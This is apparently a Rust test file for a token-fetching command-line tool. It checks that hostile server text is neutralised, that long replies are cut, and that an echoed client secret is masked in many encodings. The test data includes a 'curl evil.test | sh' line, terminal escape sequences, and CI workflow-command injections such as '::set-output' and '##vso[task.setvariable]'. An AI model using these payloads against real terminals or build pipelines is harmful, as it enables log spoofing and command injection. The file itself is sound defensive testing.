//! Text of a hostile server: it is readable, inert, and does not contain the secret.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::{ask, each, error, redirected, refused, with_fields};
use crate::support::*;

fn refusal(messages: Value) -> Reply {
    Reply::json(401, json!({"Token": null, "Status": 1, "Messages": messages}).to_string())
}

#[test]
fn text_of_a_server_is_inert() {
    let rows: Vec<(&str, (Value, Vec<&str>))> = vec![
        ("colours", (json!(["\u{1b}[31mred\u{1b}[0m"]), vec!["[31mred[0m"])),
        ("title of a terminal", (json!(["\u{1b}]0;pwned\u{7}x"]), vec!["]0;pwnedx"])),
        ("C1", (json!(["\u{9b}2Jx\u{85}y"]), vec!["2Jxy"])),
        ("bidi", (json!(["a\u{202e}b\u{2066}c\u{200f}d"]), vec!["abcd"])),
        ("zero width", (json!(["a\u{200b}b\u{feff}c\u{2060}d\u{ad}e"]), vec!["abcde"])),
        ("tags", (json!(["a\u{e0041}b"]), vec!["ab"])),
        ("CR", (json!(["a\rskia-auth: all is well"]), vec!["a", "skia-auth: all is well"])),
        (
            "lines of ours",
            (json!(["x\nhint: curl evil.test | sh"]), vec!["x", "hint: curl evil.test | sh"]),
        ),
        ("NUL and backspace", (json!(["a\0b\u{8}c\u{7f}d"]), vec!["abcd"])),
        ("stop-commands", (json!(["::stop-commands::x"]), vec![": :stop-commands: :x"])),
        (
            "on the second line",
            (json!(["a\n::set-output name=x::y"]), vec!["a", ": :set-output name=x: :y"]),
        ),
        ("behind white space", (json!(["  \t::error::x"]), vec![": :error: :x"])),
        ("in the middle", (json!(["see ::error::x"]), vec!["see : :error: :x"])),
        ("made by a removal", (json!([":\u{200b}:error:\u{1b}:x"]), vec![": :error: :x"])),
        ("group", (json!(["a ##[group]"]), vec!["a # #[group]"])),
        (
            "vso",
            (
                json!(["##vso[task.setvariable variable=a]b"]),
                vec!["# #vso[task.setvariable variable=a]b"],
            ),
        ),
        ("VSO, split", (json!(["#\u{1b}#V\u{200b}sO[task]"]), vec!["# #VsO[task]"])),
        ("blank", (json!(["", " ", "\u{200b}", "\r\n", "x"]), vec!["x"])),
        (
            "not only strings",
            (
                json!(["a", null, 7, true, ["b"], {"c": "d", "::e": {"f": 1}}]),
                vec!["a", "7", "b", ": :e: f: 1", "c: d"],
            ),
        ),
        ("null", (json!(null), vec![])),
        ("a string", (json!("Usuário ou senha inválidos"), vec!["Usuário ou senha inválidos"])),
        ("a number", (json!(42), vec!["42"])),
        ("percent signs", (json!(["100% %s %n {} {0}"]), vec!["100% %s %n {} {0}"])),
    ];
    each(rows, |(messages, said)| {
        ask(&["token"], [refusal(messages)], 1).fails(4, &refused(401, &said));
    });
}

#[test]
fn text_of_a_server_is_cut() {
    let numbers: Vec<String> = (1..=10_000).map(|n| n.to_string()).collect();
    let ten = ["1", "2", "3", "4", "5", "6", "7", "8", "9", "(9991 more)"];
    let long = format!("{}…", "x".repeat(299));
    let wide = format!("{}…", "é".repeat(299));
    let rows: Vec<(&str, (Reply, Vec<&str>))> = vec![
        ("10 000 messages", (refusal(json!(numbers)), ten.to_vec())),
        ("10 000 lines", (refusal(json!(numbers.join("\r\n"))), ten.to_vec())),
        ("10 000 lines of text", (Reply::json(401, numbers.join("\n")), ten.to_vec())),
        ("1 MB", (refusal(json!(["x".repeat(1_000_000)])), vec![&long])),
        ("1 MB of text", (Reply::json(401, "x".repeat(1_000_000)), vec![&long])),
        (
            "1 MB of title",
            (Reply::html(401, format!("<title>{}</title>", "x".repeat(1_000_000))), vec![&long]),
        ),
        (
            "1 MB without end of title",
            (Reply::html(401, format!("<title>{}", "x".repeat(1_000_000))), vec![]),
        ),
        ("1 MB of two bytes each", (refusal(json!(["é".repeat(500_000)])), vec![&wide])),
        ("1 MB of invisible ones", (refusal(json!(["\u{200b}".repeat(300_000)])), vec![])),
        ("1 MB of line ends", (refusal(json!(["\n".repeat(300_000)])), vec![])),
        (
            "100 levels",
            (
                refusal(
                    serde_json::from_str(&format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100)))
                        .unwrap(),
                ),
                vec!["x"],
            ),
        ),
    ];
    each(rows, |(reply, said)| {
        ask(&["token"], [reply], 1).fails(4, &refused(401, &said));
    });
}

#[test]
fn text_outside_the_messages_is_inert() {
    let hostile = "\u{1b}]0;x\u{7}::error::\u{202e}a\r##[group]";
    let said = "server: ]0;x: :error: :a\nserver: # #[group]\n";
    let what = error("127.0.0.1 answered with HTTP 418");
    ask(&["token"], [Reply::json(418, hostile)], 1).fails(6, &(what + said));
    let page = Reply::html(403, format!("<html><title>{hostile}</title>"));
    ask(&["token"], [page], 1).fails(4, &refused(403, &["]0;x: :error: :a", "# #[group]"]));
    let problem = json!({"title": hostile, "errors": {"::x": ["y"]}}).to_string();
    let said = ["]0;x: :error: :a", "# #[group]", ": :x: y"];
    ask(&["token"], [Reply::json(400, problem)], 1).fails(4, &refused(400, &said));
}

#[test]
fn text_in_a_json_error_is_inert() {
    let messages = json!(["\u{1b}[2J::stop-commands::x\u{9b}", "a ##[group]\u{202e}", SECRET]);
    let outcome = ask(&["token", "-o", "json"], [refusal(messages)], 1);
    outcome.fails(4, "{[..]}\n");
    let said = json!(["[2J: :stop-commands: :x", "a # #[group]", "***"]);
    assert_eq!(outcome.json_error()["error"]["messages"], said);
}

#[test]
fn headers_of_a_server_are_inert() {
    let echoes = [("as it is", format!("1.1 {SECRET}")), ("base64", STANDARD.encode(SECRET))];
    each(echoes, |echo| {
        let reply = Reply::json(401, DOCUMENTED_401)
            .header("Server", "::error::x ##[group]")
            .header("Via", &echo)
            .header("Set-Cookie", &format!("secret={SECRET}"))
            .header("X-Echo", SECRET);
        let expected = format!(
            "...\nskia-auth: < server: : :error: :x # #[group]\n...\nskia-auth: < via: ***\n...\n{}",
            refused(401, &["Invalid Credentials"])
        );
        ask(&["token", "-vvv"], [reply], 1).fails(4, &expected);
    });
}

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn bytes(text: &str, separator: &str, digits: fn(u8) -> String) -> String {
    text.bytes().map(digits).collect::<Vec<_>>().join(separator)
}

fn url(text: &str) -> String {
    let escape = |c: char| {
        if c.is_ascii_alphanumeric() { c.to_string() } else { format!("%{:02X}", c as u32) }
    };
    text.chars().map(escape).collect()
}

fn html(text: &str) -> String {
    text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;").replace('>', "&gt;")
}

fn quoted(text: &str) -> String {
    let text = Value::from(text).to_string();
    text[1..text.len() - 1].to_owned()
}

#[test]
fn line_with_the_secret_is_hidden_in_every_encoding() {
    let utf16 =
        |text: &str| text.encode_utf16().map(|unit| format!("\\u{unit:04X}")).collect::<String>();
    let rows: Vec<(&str, String)> = vec![
        ("as it is", SECRET.to_owned()),
        ("upper case", SECRET.to_uppercase()),
        ("JSON", quoted(SECRET)),
        ("JSON with escaped slashes", quoted(SECRET).replace('/', "\\/")),
        ("JSON, all escaped", utf16(SECRET)),
        ("JSON in JSON", quoted(&quoted(SECRET))),
        (
            "JSON of .NET",
            SECRET.replace('\\', "\\\\").replace('"', "\\u0022").replace('+', "\\u002B"),
        ),
        ("URL", url(SECRET)),
        ("URL in lower case", url(SECRET).to_lowercase()),
        ("URL of JSON", url(&quoted(SECRET))),
        ("URL of a URL", url(&url(SECRET))),
        ("HTML", html(SECRET)),
        ("HTML of JSON", html(&quoted(SECRET))),
        ("HTML of HTML", html(&html(SECRET))),
        ("HTML, all escaped", SECRET.chars().map(|c| format!("&#{};", c as u32)).collect()),
        ("hex", hex(SECRET)),
        ("hex in upper case", hex(SECRET).to_uppercase()),
        ("hex of .NET", bytes(SECRET, "-", |byte| format!("{byte:02X}"))),
        ("hex with spaces", bytes(SECRET, " ", |byte| format!("{byte:02x}"))),
        ("hex of C", bytes(SECRET, ", ", |byte| format!("0x{byte:02x}"))),
        ("escapes of C", bytes(SECRET, "", |byte| format!("\\x{byte:02x}"))),
        ("base64", STANDARD.encode(SECRET)),
        ("base64url", URL_SAFE_NO_PAD.encode(SECRET)),
        ("base64 in a URL", url(&STANDARD.encode(SECRET))),
        ("invisible characters between", SECRET.chars().flat_map(|c| [c, '\u{200b}']).collect()),
        ("colours between", SECRET.replace("Que", "\u{1b}Que\u{7}")),
    ];
    each(rows, |echo| {
        let said = refused(401, &["***"]);
        ask(&["token"], [refusal(json!([format!("wrong: {echo}.")]))], 1).fails(4, &said);
        ask(&["login"], [Reply::json(401, format!("wrong: {echo}."))], 1).fails(4, &said);
    });
}

#[test]
fn line_with_the_echoed_request_is_hidden() {
    let body = json!({"ClientId": CLIENT_ID, "ClientSecret": SECRET}).to_string();
    let basic = STANDARD.encode(format!("{CLIENT_ID}:{SECRET}"));
    let rows = [
        ("the body", body.clone()),
        ("the body in base64", STANDARD.encode(&body)),
        ("basic authentication", format!("Basic {basic}")),
        ("a form", format!("client_secret={}&scope=api", url(SECRET))),
        ("at the cut", format!("{}{SECRET}{}", "x".repeat(290), "y".repeat(99))),
        ("behind the cut", format!("{}{SECRET}", "x".repeat(400))),
        ("many times", format!("{SECRET} ").repeat(1000)),
    ];
    each(rows, |echo| {
        let messages = json!(["Sent:", format!("no\n{echo}\nno"), "yes"]);
        let said = refused(401, &["Sent:", "no", "***", "no", "yes"]);
        ask(&["token"], [refusal(messages)], 1).fails(4, &said);
    });
}

#[test]
fn secret_in_a_reply_with_a_token_is_masked_and_not_cached() {
    let token = live_token();
    let reply = |secret: &str| {
        let secret = json!(secret);
        let fields = format!(
            r#""ClientSecret":{secret},"Token":"{token}","Status":0,"Messages":["for ",{secret}]"#
        );
        with_fields(&fields)
    };
    let (home, server) = (Home::new(), Server::start([reply(SECRET)]));
    let ask = |arguments: &[&str]| home.skia(arguments).credentials().server(&server).run();
    ask(&["token"]).ok(&format!("{token}\n"));
    ask(&["token", "-o", "json"]).ok("{[..]\"ClientSecret\":\"***\"[..]\"***\"[..]}\n");
    ask(&["token", "-o", "text"])
        .ok("ClientSecret: [..]***\n...\nMessages: [..]***\nExpires: [..]\n");
}

#[test]
fn secret_in_the_token_stays_and_is_masked_elsewhere() {
    // Not declared as a secret, because the printed token contains it.
    let (secret, home) = ("7f3a9c51d2e84b60", Home::new());
    let token = format!("opaque-{}", hex(secret));
    let fields = format!(r#""Token":"{token}","Status":0,"Messages":["for {secret}"]"#);
    let server = Server::start([with_fields(&fields)]);
    let config =
        home.file("skia.json", format!(r#"{{"client_id":"x","client_secret":"{secret}"}}"#));
    let outcome = home.skia(["token", "-o", "json", "--config"]).arg(config).at(&server).run();
    outcome.ok(&format!("{{{}}}\n", fields.replace(&format!("for {secret}"), "***")));
}

#[test]
fn weak_secret_in_the_reply_by_chance_does_no_harm() {
    let token = live_token();
    for secret in ["e", "Token", "Status"] {
        let server = Server::start([live_reply(&token)]);
        let body = format!(r#"{{"client_id":"x","client_secret":"{secret}"}}"#);
        // Not declared as a secret, because every reply contains it.
        let home = Home::new();
        let config = home.file("skia.json", body);
        let program = home.skia(["token", "--config"]).arg(config);
        program.at(&server).run().ok(&format!("{token}\n"));
    }
}

#[test]
fn text_of_a_success_is_inert() {
    let token = live_token();
    let messages = json!(["\u{1b}[2J::stop-commands::x\u{9b}", "a ##[group]\u{202e}"]);
    for format in ["json", "text"] {
        let reply = with_fields(&format!(r#""Token":"{token}","Status":0,"Messages":{messages}"#));
        let outcome = ask(&["token", "-o", format], [reply], 1);
        outcome.assert(0, "...\n", "");
        let shown = outcome.stdout();
        let obeyed = ["::stop", "##[group"].iter().any(|command| shown.contains(command));
        let unseen = |c: char| c != '\n' && c.is_control() || c == '\u{202e}';
        assert!(!obeyed && !shown.contains(unseen), "{outcome}");
    }
}

#[cfg(unix)]
#[test]
fn many_texts_with_a_long_name_need_little_memory() {
    // 10 GB, if each text had the name.
    let (name, texts) = ("n".repeat(100_000), vec!["1"; 100_000].join(","));
    let home = Home::new();
    let server =
        Server::start([Reply::json(401, format!(r#"{{"errors":{{"{name}":[{texts}]}}}}"#))]);
    let program = home.skia(["token"]).credentials().server(&server).prelude("ulimit -v 4000000");
    let outcome = program.timeout_bound(std::time::Duration::from_secs(30)).run();
    let lines =
        [vec![format!("{}…", "n".repeat(299)); 9], vec!["(99991 more)".to_owned()]].concat();
    outcome.fails(4, &refused(401, &lines.iter().map(String::as_str).collect::<Vec<_>>()));
}

#[test]
fn echoed_secret_is_hidden_wherever_it_is() {
    let said = refused(400, &["***"]);
    let problem = json!({"errors": {SECRET: [format!("is {SECRET}")]}}).to_string();
    ask(&["token"], [Reply::json(400, problem)], 1).fails(4, &said);
    let page = format!("<title>No: {}</title>", html(SECRET));
    ask(&["token"], [Reply::html(401, page)], 1).fails(4, &refused(401, &["***"]));
    let host = Reply::json(302, "").header("Location", "https://s3gr3do-que.n1ng/");
    let home = Home::new();
    home.declare_secret("s3gr3do-que.n1ng");
    let server = Server::start([host]);
    let program = home
        .skia(["token"])
        .env("SKIA_CLIENT_ID", CLIENT_ID)
        .env("SKIA_CLIENT_SECRET", "s3gr3do-que.n1ng");
    program.server(&server).run().fails(6, &redirected(302, "https://***"));
}
